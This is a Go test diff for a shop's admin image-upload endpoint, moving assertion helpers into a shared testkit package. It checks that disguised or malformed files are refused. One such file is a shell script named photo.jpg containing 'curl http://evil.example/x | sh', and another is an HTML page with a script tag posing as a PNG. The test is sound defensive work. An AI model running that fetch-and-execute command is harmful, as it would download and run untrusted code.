@@ -20,6 +20,7 @@ import (
 	"shop/internal/admin"
 	"shop/internal/db"
 	"shop/internal/db/dbtest"
+	"shop/internal/testkit"
 )
 
 func picture(w, h int, alpha bool) goimage.Image {
@@ -95,8 +96,8 @@ func TestImageUpload(t *testing.T) {
 
 		// A phone photo: stored as 400 and 800 px wide WebP, metadata gone.
 		rec := e.upload(path, "IMG_2041.jpg", "image/jpeg", photoJPEG(t, 1200, 900))
-		wantStatus(t, rec, http.StatusCreated)
-		photo := decode[image](t, rec)
+		testkit.WantStatus(t, rec, http.StatusCreated)
+		photo := testkit.Decode[image](t, rec)
 		if !strings.HasPrefix(photo.Image, "/media/products/") || !strings.HasSuffix(photo.Image, "-800.webp") ||
 			photo.Width != 800 || photo.Height != 600 || photo.SortOrder != 0 {
 			t.Fatalf("image %+v", photo)
@@ -116,12 +117,12 @@ func TestImageUpload(t *testing.T) {
 			}
 		}
 		// The media handler serves it.
-		wantStatus(t, e.do("GET", photo.Image, "", nil), http.StatusOK)
+		testkit.WantStatus(t, e.do("GET", photo.Image, "", nil), http.StatusOK)
 
 		// A small PNG with transparency is never upscaled: one version.
 		rec = e.upload(path, "logo.png", "image/png", pngOf(t, picture(300, 200, true)))
-		wantStatus(t, rec, http.StatusCreated)
-		logo := decode[image](t, rec)
+		testkit.WantStatus(t, rec, http.StatusCreated)
+		logo := testkit.Decode[image](t, rec)
 		if !strings.HasSuffix(logo.Image, "-300.webp") || logo.Width != 300 || logo.Height != 200 || logo.SortOrder != 1 {
 			t.Fatalf("png image %+v", logo)
 		}
@@ -131,55 +132,55 @@ func TestImageUpload(t *testing.T) {
 			t.Fatal(err)
 		}
 		rec = e.upload(path, "bag.webp", "image/webp", small)
-		wantStatus(t, rec, http.StatusCreated)
-		bag := decode[image](t, rec)
+		testkit.WantStatus(t, rec, http.StatusCreated)
+		bag := testkit.Decode[image](t, rec)
 
 		// The real content decides, not the name or the browser's type.
-		wantError(t, e.upload(path, "photo.jpg", "image/jpeg", []byte("#!/bin/sh\ncurl http://evil.example/x | sh\n")),
+		testkit.WantError(t, e.upload(path, "photo.jpg", "image/jpeg", []byte("#!/bin/sh\ncurl http://evil.example/x | sh\n")),
 			http.StatusBadRequest, "image", admin.MsgImageType)
-		wantError(t, e.upload(path, "page.png", "image/png", []byte("<html><script>alert(1)</script></html>")),
+		testkit.WantError(t, e.upload(path, "page.png", "image/png", []byte("<html><script>alert(1)</script></html>")),
 			http.StatusBadRequest, "image", admin.MsgImageType)
-		wantError(t, e.upload(path, "anim.gif", "image/gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")),
+		testkit.WantError(t, e.upload(path, "anim.gif", "image/gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")),
 			http.StatusBadRequest, "image", admin.MsgImageType)
 		// A damaged file: a JPEG cut short, and a PNG with garbage after its signature.
 		whole := photoJPEG(t, 640, 480)
-		wantError(t, e.upload(path, "cut.jpg", "image/jpeg", whole[:len(whole)/3]), http.StatusBadRequest, "image", admin.MsgImageCorrupt)
-		wantError(t, e.upload(path, "bad.png", "image/png", append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte{7}, 300)...)),
+		testkit.WantError(t, e.upload(path, "cut.jpg", "image/jpeg", whole[:len(whole)/3]), http.StatusBadRequest, "image", admin.MsgImageCorrupt)
+		testkit.WantError(t, e.upload(path, "bad.png", "image/png", append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte{7}, 300)...)),
 			http.StatusBadRequest, "image", admin.MsgImageCorrupt)
-		wantError(t, e.upload(path, "huge.png", "image/png", pngHeader(30000, 30000)), http.StatusBadRequest, "image", admin.MsgImagePixels)
+		testkit.WantError(t, e.upload(path, "huge.png", "image/png", pngHeader(30000, 30000)), http.StatusBadRequest, "image", admin.MsgImagePixels)
 		// 42 megapixels in a few hundred bytes: refused from the header alone.
-		wantError(t, e.upload(path, "tall.png", "image/png", pngHeader(7000, 6000)), http.StatusBadRequest, "image", admin.MsgImagePixels)
+		testkit.WantError(t, e.upload(path, "tall.png", "image/png", pngHeader(7000, 6000)), http.StatusBadRequest, "image", admin.MsgImagePixels)
 		// Over the size limit: 413 with words, whether the file or the whole body is too big.
 		big := append(append([]byte{}, whole...), make([]byte, admin.MaxImageBytes)...)
-		wantError(t, e.upload(path, "big.jpg", "image/jpeg", big), http.StatusRequestEntityTooLarge, "image", admin.MsgImageTooBig)
-		wantError(t, e.upload(path, "bigger.jpg", "image/jpeg", make([]byte, admin.MaxUploadBody+10)), http.StatusRequestEntityTooLarge, "image", admin.MsgImageTooBig)
-		wantError(t, e.upload("/api/admin/products/999999/images/", "x.png", "image/png", pngOf(t, picture(10, 10, false))), http.StatusNotFound, "", "Product not found")
+		testkit.WantError(t, e.upload(path, "big.jpg", "image/jpeg", big), http.StatusRequestEntityTooLarge, "image", admin.MsgImageTooBig)
+		testkit.WantError(t, e.upload(path, "bigger.jpg", "image/jpeg", make([]byte, admin.MaxUploadBody+10)), http.StatusRequestEntityTooLarge, "image", admin.MsgImageTooBig)
+		testkit.WantError(t, e.upload("/api/admin/products/999999/images/", "x.png", "image/png", pngOf(t, picture(10, 10, false))), http.StatusNotFound, "", "Product not found")
 		// JSON is not a file: refused before the handler, like any body of
 		// the wrong kind.
-		wantStatus(t, e.as("POST", path, map[string]string{"image": "x"}), http.StatusUnsupportedMediaType)
-		wantError(t, e.upload(path, "", "", nil), http.StatusBadRequest, "image", admin.MsgImageMissing)
+		testkit.WantStatus(t, e.as("POST", path, map[string]string{"image": "x"}), http.StatusUnsupportedMediaType)
+		testkit.WantError(t, e.upload(path, "", "", nil), http.StatusBadRequest, "image", admin.MsgImageMissing)
 
 		// Reorder: every image once.
 		order := fmt.Sprintf("/api/admin/products/%d/images/order/", p.ID)
 		rec = e.as("PUT", order, map[string]any{"ids": []int64{bag.ID, photo.ID, logo.ID}})
-		wantStatus(t, rec, http.StatusOK)
-		if got := decode[[]image](t, rec); got[0].ID != bag.ID || got[1].ID != photo.ID || got[2].ID != logo.ID {
+		testkit.WantStatus(t, rec, http.StatusOK)
+		if got := testkit.Decode[[]image](t, rec); got[0].ID != bag.ID || got[1].ID != photo.ID || got[2].ID != logo.ID {
 			t.Fatalf("reordered %+v", got)
 		}
-		wantError(t, e.as("PUT", order, map[string]any{"ids": []int64{bag.ID, bag.ID, logo.ID}}), http.StatusBadRequest, "", "List every image of this product once, in the new order.")
-		shop := decode[product](t, e.do("GET", fmt.Sprintf("/api/products/%d/", p.ID), "", nil))
+		testkit.WantError(t, e.as("PUT", order, map[string]any{"ids": []int64{bag.ID, bag.ID, logo.ID}}), http.StatusBadRequest, "", "List every image of this product once, in the new order.")
+		shop := testkit.Decode[product](t, e.do("GET", fmt.Sprintf("/api/products/%d/", p.ID), "", nil))
 		if len(shop.Images) != 3 || shop.Images[0].ID != bag.ID {
 			t.Fatalf("shop images %+v", shop.Images)
 		}
 
 		// Deleting an image removes its files.
-		wantStatus(t, e.as("DELETE", fmt.Sprintf("%s%d/", path, photo.ID), nil), http.StatusNoContent)
+		testkit.WantStatus(t, e.as("DELETE", fmt.Sprintf("%s%d/", path, photo.ID), nil), http.StatusNoContent)
 		if _, err := os.Stat(filepath.Join(dir, base+"-400.webp")); !os.IsNotExist(err) {
 			t.Fatalf("400 px file still there: %v", err)
 		}
-		wantStatus(t, e.as("DELETE", fmt.Sprintf("%s%d/", path, photo.ID), nil), http.StatusNotFound)
+		testkit.WantStatus(t, e.as("DELETE", fmt.Sprintf("%s%d/", path, photo.ID), nil), http.StatusNotFound)
 		// Deleting the product removes the rest.
-		wantStatus(t, e.as("DELETE", fmt.Sprintf("/api/admin/products/%d/", p.ID), nil), http.StatusOK)
+		testkit.WantStatus(t, e.as("DELETE", fmt.Sprintf("/api/admin/products/%d/", p.ID), nil), http.StatusOK)
 		left, _ := os.ReadDir(dir)
 		if len(left) != 0 {
 			t.Fatalf("files left: %v", left)
